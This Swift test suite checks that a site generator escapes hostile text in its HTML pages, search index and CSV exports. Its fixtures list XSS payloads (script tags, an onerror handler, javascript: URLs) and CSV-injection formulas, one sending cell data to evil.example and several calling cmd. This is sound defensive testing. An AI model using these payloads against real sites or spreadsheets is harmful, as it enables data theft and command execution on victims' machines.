import Foundation
import FoundationXML
import Testing
import OutpostModel
import OutpostStore
@testable import OutpostSite
import OutpostTestSupport
import OutpostTestThreads

@Suite("Hostile text is escaped by construction", .ownThreads)
struct HostileTextTests {
    static let hostile: [String] = [
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "O'Brien & \"Partners\" &lt;b&gt; &amp;",
        "שלום עולם مرحبا \u{202E}gnp.exe",
        "👩‍💻 Café ☕ 𝔘𝔫𝔦𝔠𝔬𝔡𝔢",
        "javascript:alert(1)",
        String(repeating: "Ten kB name & <b>bold</b> \"quoted\" ", count: 300),
    ]

    /// Every free-text column of every entity the site shows.
    static let textColumns: [(table: String, columns: [String])] = [
        ("settings", ["company_name", "address", "email", "phone", "tax_id"]),
        ("plan", ["name", "vendor", "description"]),
        ("panel_user", ["name", "email"]),
        ("customer", ["name", "contact_name", "email", "phone", "address", "city", "postal_code", "country", "tax_id"]),
        ("customer_user", ["username", "name", "email"]),
        ("orders", ["status_reason"]),
        ("order_line", ["description", "domain_name", "common_name"]),
        ("invoice_line", ["description"]),
        ("credit_note", ["reason"]),
        ("credit_note_line", ["description"]),
        ("payment", ["reference"]),
        ("domain", ["name"]),
        ("ssl_certificate", ["common_name"]),
        // A license key is never shown whole, only its last four characters (LicenseKey.masked).
        ("license", ["product"]),
        ("login_event", ["source"]),
    ]

    @Test func everyTextFieldOfEveryEntityShowsEscapedAndIntact() throws {
        try withTemporaryDirectory { directory in
            let db = try fixtureDatabase(in: directory, customers: 8)
            var expected: [String] = []
            var counter = 0
            for (table, columns) in Self.textColumns {
                // The reseller's own account shows nowhere by its name (its purchases are on the Own purchases page).
                let scope = table == "customer" ? " WHERE id <> 'cus_own'" : ""
                let rowids = try db.rows("SELECT rowid FROM \(table)\(scope) ORDER BY rowid").compactMap { $0[0].int64 }
                for rowid in rowids {
                    for column in columns {
                        counter += 1
                        // A unique suffix: some columns are unique, and each value must be findable.
                        let value = Self.hostile[counter % Self.hostile.count] + " #\(counter)"
                        try db.execute("UPDATE \(table) SET \(column) = ? WHERE rowid = ?", [value, rowid])
                        expected.append(value)
                    }
                }
            }
            try db.execute("""
                INSERT INTO rejected (seq, mutation, mutation_version, args, created_at, code, message, rejected_at)
                VALUES (7, 'customer.update', 1, ?, '2026-11-24T10:00:00Z', 'invalid', ?, '2026-11-24T11:00:00Z')
                """, [#"{"name":"<script>alert(1)</script>"}"#, Self.hostile[1] + " rejected"])
            try db.execute("""
                INSERT INTO conflict (id, entity, entity_id, field, kept_value, overwritten_value, kept_replica, kept_user, kept_at, overwritten_replica, overwritten_user, overwritten_at, reason, base_version, node_version, replica_id, seq, mutation, at)
                VALUES ('cfl_1', 'customer', 'cus_x', 'name', ?, ?, 'rep_2', 'ben', '2026-11-24T11:00:00Z', 'rep_1', 'anna', '2026-11-24T10:00:00Z', 'later_edit', 1, 2, 'rep_1', 3, 'customer.update', '2026-11-24T12:00:00Z')
                """, [Self.hostile[0] + " local", Self.hostile[2] + " node"])
            let customer = try #require(try db.scalar("SELECT id FROM customer ORDER BY id LIMIT 1")?.string)
            try db.execute("""
                INSERT INTO notification (id, customer_id, kind, entity, entity_id, threshold_days, reference_date, notice_date,
                                          recipient, subject, message_id, channel, sent_at)
                VALUES ('ntf_1', ?, 'domain_expiring', 'domain', 'dom_missing', 7, '2026-12-01', '2026-11-24', ?, ?, '<m@x>', 'outbox', '2026-11-24T06:00:00Z')
                """, [customer, Self.hostile[3] + " recipient", Self.hostile[1] + " subject"])
            expected += [Self.hostile[1] + " rejected", Self.hostile[0] + " local", Self.hostile[2] + " node",
                         Self.hostile[3] + " recipient", Self.hostile[1] + " subject"]

            let site = directory.appendingPathComponent("site")
            try buildSite(db, into: site)
            let files = try siteFiles(site)
            var texts = Set<String>()
            var everything = Data()
            for path in files.keys.sorted() where path.hasSuffix(".html") {
                let page = try ParsedPage(site: site, path: path)   // throws if escaping broke the markup
                for element in page.elements {
                    #expect(element.localName != "img", "an img element on \(path)")
                    if element.localName == "script" { #expect(element.attr("src") != nil, "an inline script on \(path)") }
                    for attribute in element.attributes ?? [] {
                        #expect(!(attribute.name ?? "").lowercased().hasPrefix("on"), "an event handler attribute on \(path)")
                        if attribute.name == "href" || attribute.name == "src" {
                            #expect(!(attribute.stringValue ?? "").lowercased().hasPrefix("javascript:"))
                        }
                    }
                    for child in element.children ?? [] where child.kind == .text {
                        if let text = child.stringValue {
                            texts.insert(text)
                            everything.append(contentsOf: Data(text.utf8))
                            everything.append(0)
                        }
                    }
                }
            }
            for value in expected {
                let found = texts.contains(value) || everything.range(of: Data(value.utf8)) != nil
                #expect(found, "not shown intact: \(value.prefix(80))")
            }
            // The customer's own page is titled with the exact name.
            try db.forEachRow("SELECT id, name FROM customer WHERE id <> 'cus_own'") { row in
                let id = try row.string("id"), name = try row.string("name")
                let page = try ParsedPage(site: site, path: SitePath.customer(id))
                #expect(page.elements(named: "h1").first?.stringValue == name)
            }
            // The search index carries the names as data: it parses as JSON and holds them intact.
            var indexed = Set<String>()
            for (path, data) in files where path.hasPrefix("search/s-") {
                let text = String(decoding: data, as: UTF8.self)
                #expect(!text.contains("<") && !text.contains(">"), "raw angle brackets in \(path)")
                let body = text.dropFirst("OutpostSearch.add(".count).dropLast(");\n".count)
                let parsed = try #require(try JSONSerialization.jsonObject(with: Data(("[" + body + "]").utf8)) as? [Any])
                for entry in (parsed[1] as? [[String]]) ?? [] { indexed.insert(entry[1]) }
            }
            try db.forEachRow("SELECT name FROM customer WHERE id <> 'cus_own'") { row in
                let name = try row.string("name")
                #expect(indexed.contains(name))
            }
            // And the CSV holds them byte for byte (after the id).
            let csv = CSVParser.parse(try PublishedSite.csvText("customers", in: site))
            try db.forEachRow("SELECT name FROM customer WHERE id <> 'cus_own'") { row in
                let name = try row.string("name")
                #expect(csv.contains { $0.count > 1 && $0[1] == name })
            }
        }
    }

    /// Cells a spreadsheet would run as formulas (CSV injection), one for each character that starts one.
    static let formulas: [String] = [
        #"=HYPERLINK("http://evil.example/?x="&A1,"Click")"#,
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ]

    /// No cell of any CSV under `site` begins as a formula; a plain number (an amount like -12.50) may begin with a sign.
    static func expectNoLiveFormula(in site: URL) throws -> Set<String> {
        var cells = Set<String>()
        let files = try siteFiles(site).filter { $0.key.hasSuffix(".csv") }
        #expect(files.count > 10, "the site has its CSVs")
        for (path, data) in files {
            for record in CSVParser.parse(String(decoding: data, as: UTF8.self)) {
                for cell in record {
                    cells.insert(cell)
                    guard let first = cell.unicodeScalars.first, "=+-@\t\r".unicodeScalars.contains(first) else { continue }
                    #expect(Double(cell) != nil, "a live formula in \(path): \(cell.debugDescription)")
                }
            }
        }
        return cells
    }

    @Test func everyCSVShowsFormulaLikeTextAsText() throws {
        try withTemporaryDirectory { directory in
            let db = try fixtureDatabase(in: directory, customers: 8)
            var expected: [String] = []
            var counter = 0
            for (table, columns) in Self.textColumns {
                let rowids = try db.rows("SELECT rowid FROM \(table) ORDER BY rowid").compactMap { $0[0].int64 }
                for rowid in rowids {
                    for column in columns {
                        counter += 1
                        let value = Self.formulas[counter % Self.formulas.count] + " #\(counter)"
                        try db.execute("UPDATE \(table) SET \(column) = ? WHERE rowid = ?", [value, rowid])
                        expected.append(value)
                    }
                }
            }
            let site = directory.appendingPathComponent("site")
            try buildSite(db, into: site)
            let cells = try Self.expectNoLiveFormula(in: site)
            // The customers' names and the payments' references are there, behind an apostrophe and otherwise intact
            // (the reseller's own account is no customer: its name is in no list).
            for (table, column) in [("customer", "name"), ("payment", "reference")] {
                try db.forEachRow("SELECT \(column) FROM \(table) WHERE \(column) IS NOT NULL AND id <> ?", [Customer.ownAccountId]) { row in
                    let value = try row.string(column)
                    #expect(cells.contains("'" + value), "\(table).\(column) \(value.debugDescription) is in a CSV, neutralised")
                }
            }
            // Amounts stay numbers: a credit or a negative balance is not turned into text.
            #expect(CSVRecord.neutralised("-12.50") == "-12.50" && CSVRecord.neutralised("+3") == "+3")
            #expect(CSVRecord.neutralised("-12.50 EUR") == "'-12.50 EUR" && CSVRecord.neutralised("-") == "'-")
            #expect(CSVRecord.neutralised("Contoso") == "Contoso" && CSVRecord.neutralised("") == "")

            // A rename patched into the CSV in place (an incremental build) is neutralised as one written afresh.
            let customer = try #require(try db.scalar("SELECT id FROM customer ORDER BY id LIMIT 1")?.string)
            try db.execute("UPDATE customer SET name = ? WHERE id = ?", ["=1+2 renamed", customer])
            let report = try buildSite(db, into: site)
            #expect(report.incremental)
            let renamed = try Self.expectNoLiveFormula(in: site)
            #expect(renamed.contains("'=1+2 renamed"))
        }
    }
}
